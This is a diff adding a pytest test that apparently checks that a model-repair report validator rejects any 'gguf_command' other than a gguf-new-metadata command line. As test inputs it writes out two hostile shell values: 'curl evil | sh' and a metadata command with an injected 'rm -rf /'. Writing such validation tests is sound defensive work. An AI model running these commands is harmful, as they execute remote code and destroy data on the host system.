@@ -55,3 +55,11 @@ def test_a_damaged_training_is_rejected(tmp_path: Path):
     document["report"]["results"][0]["status"] = "lost"
     with pytest.raises(TokverifyError, match=r"\$\.report\.results\[0\]\.status"):
         read_any(saved(tmp_path, document))
+
+
+@pytest.mark.parametrize("command", ["curl evil | sh", "gguf-set-metadata MODEL KEY true; rm -rf /"])
+def test_a_repair_with_another_command_is_rejected(tmp_path: Path, command: str):
+    document = json.loads(encode(FIX))
+    document["repair"]["gguf_command"] = command
+    with pytest.raises(TokverifyError, match=r"\$\.repair\.gguf_command: expected a command line of gguf-new-metadata"):
+        read_any(saved(tmp_path, document))
